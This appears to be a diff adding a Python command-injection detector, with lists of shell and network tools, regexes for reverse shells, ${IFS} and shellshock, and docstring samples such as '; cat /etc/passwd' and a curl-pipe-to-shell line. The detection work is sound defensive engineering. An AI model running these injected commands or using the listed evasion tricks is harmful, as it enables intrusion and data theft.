@@ -1,0 +1,121 @@
+"""OS command injection: does this value start a command if a shell reads it?
+
+A shell runs a second command after a separator (``;`` ``|`` ``||`` ``&`` ``&&`` a newline) or
+inside a substitution (``$(...)``, a backtick pair). The detector finds each of these, reads the
+word after it as a shell would (quotes, backslashes and empty expansions removed, so ``c'a't``,
+``c\\at`` and ``ca$@t`` read ``cat``; a path such as ``/bin/cat`` reads ``cat``) and asks
+whether it is a command:
+
+* commands that have no other reading (``whoami``, ``wget``, ``nc``, ``powershell``...) count
+  after any separator;
+* commands that are also ordinary words (``cat``, ``id``, ``more``, ``type``...) count only with
+  a shell-like argument (``-la``, ``/etc``, ``$HOME``, ``c:\\``) or, for a few, at the very end.
+
+Alongside: ``${IFS}``, shellshock's ``() {``, ``/dev/tcp/`` reverse shells, ``cmd /c``. So
+``rock & roll``, ``Tom & Jerry``, ``R&D; id card``, ``cats | dogs`` and Markdown such as
+``Run `ls -la` to list`` stay clean, while ``; cat /etc/passwd``, ``| id``, ``$(whoami)`` and
+``&& c'u'rl http://x/s | sh`` do not.
+"""
+
+from __future__ import annotations
+
+import re
+
+from vigil.signatures.detection import Attack, Detection, excerpt
+
+MAX_SCAN = 16384
+"""Characters of a value that are inspected (from the start)."""
+
+STRONG = frozenset({
+    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat", "netcat",
+    "socat", "bash", "sh", "zsh", "ksh", "csh", "tcsh", "busybox", "python", "python2", "python3",
+    "perl", "ruby", "php", "lua", "nmap", "telnet", "nslookup", "chmod", "chown", "chgrp",
+    "mkfifo", "mknod", "xxd", "base64", "printenv", "passwd", "useradd", "usermod", "crontab",
+    "pkill", "killall", "systemctl", "sudo", "tftp", "xterm", "gcc", "powershell", "pwsh", "cmd",
+    "netsh", "systeminfo", "tasklist", "taskkill", "certutil", "bitsadmin", "wmic", "rundll32",
+    "regsvr32", "mshta", "cscript", "wscript", "schtasks", "hostname", "uptime", "lsof", "getent",
+    "traceroute", "tracert", "nohup", "setsid", "gawk", "openssl",
+})  # fmt: skip
+"""Commands taken as commands after any separator."""
+WEAK = frozenset({
+    "cat", "ls", "echo", "rm", "kill", "type", "dir", "del", "copy", "more", "less", "head",
+    "tail", "find", "sort", "id", "ps", "env", "host", "tar", "start", "touch", "sed", "grep",
+    "cp", "mv", "mkdir", "rmdir", "chdir", "cd", "pwd", "set", "w", "who", "last", "df", "du",
+    "file", "strings", "unzip", "zip", "tee", "nl", "od", "diff", "make", "java", "node", "which",
+    "whereis", "locate", "sleep", "ping", "net", "route", "reg", "exec", "eval", "timeout", "su",
+    "dash", "dig", "awk", "arp",
+})  # fmt: skip
+"""Commands that are also plain words: they need a shell-like argument."""
+ALONE = frozenset({"id", "ls", "ps", "pwd", "env", "w", "who", "set", "dir", "whoami", "uname"})
+"""Commands that count at the very end of a value with no argument (``;id``)."""
+
+_SEPARATOR = re.compile(r"^|;|\|\|?|&&?|\n|\r|\$\(|`|<\(|>\(|\{,?\s*(?=[a-z/$']+[,}])")
+_WORD = re.compile(r"[\s\"'{]*([\w./\\\-+\"'$@{}]+)")
+_STRIP = re.compile(r"\$\{[^}]*\}|\$[@*?\d]|[\"'\\{}]")
+_ARGUMENT = re.compile(
+    r"(?:\s|\$\{IFS\}|\$IFS|\+|<|,)+([-/~$.\\%]|[a-z]:[\\/]|[0-9]+\s*(?:[;|&`)]|$)|\d{1,3}\.\d{1,3}\.|\S*[/\\])",
+    re.IGNORECASE,
+)
+_ALWAYS = re.compile(
+    r"\$\{IFS\}|\$IFS\$|\(\)\s*\{[^}]{0,64}\};|/dev/(?:tcp|udp)/|\bcmd(?:\.exe)?\s*/[ck]\b|"
+    r"%(?:comspec|systemroot|windir)%|\bpowershell(?:\.exe)?\s+-(?:e|enc|encodedcommand|c|command|nop)\b",
+    re.IGNORECASE,
+)
+_LEADING = re.compile(r"[\s\"'{]*(?:" + "|".join(sorted(STRONG)) + r")\b", re.IGNORECASE)
+_CANDIDATE = re.compile(r"[;|&`\n\r]|\$[({I]|\(\)|/dev/|cmd|%\w+%|powershell", re.IGNORECASE)
+
+
+def _command_name(raw: str) -> str:
+    word = _STRIP.sub("", raw).lower()
+    word = word.replace("\\", "/").rsplit("/", 1)[-1]
+    return word.removesuffix(".exe")
+
+
+def _after(value: str, pos: int, substitution: bool) -> tuple[str, int] | None:
+    word = _WORD.match(value, pos)
+    if word is None or not word.group(1):
+        return None
+    name = _command_name(word.group(1))
+    end = word.end()
+    if name in STRONG and (pos > 0 or not value[end:].strip() or _ARGUMENT.match(value, end)):
+        return name, end
+    if name not in WEAK and name not in ALONE:
+        return None
+    rest = value[end:]
+    stripped = rest.strip()
+    if not stripped or stripped[0] in ";|&`)\n":
+        return (name, end) if name in ALONE or substitution else None
+    if _ARGUMENT.match(rest) is not None:
+        return name, end
+    return None
+
+
+def detect_command(text: str) -> Detection | None:
+    """A :class:`Detection` when ``text`` would run a command if a shell read it."""
+    if not _CANDIDATE.search(text) and not _LEADING.match(text):
+        return None
+    value = text[:MAX_SCAN]
+    always = _ALWAYS.search(value)
+    if always is not None:
+        return Detection(Attack.COMMAND, "shell construct", excerpt(value, always.start()))
+    for sep in _SEPARATOR.finditer(value):
+        mark = sep.group()
+        start = sep.start()
+        substitution = mark in {"$(", "`", "<(", ">("}
+        if (
+            mark == "`"
+            and start > 0
+            and not (value[start - 1] in "=;|&('\"" or value[start - 1].isalnum())
+        ):
+            continue
+        found = _after(value, sep.end(), substitution)
+        if found is not None:
+            name, _ = found
+            if not mark:
+                kind = "value starts with"
+            elif substitution:
+                kind = "substitution"
+            else:
+                kind = f"{mark.strip() or 'newline'!r} then"
+            return Detection(Attack.COMMAND, f"{kind} command {name}", excerpt(value, start))
+    return None
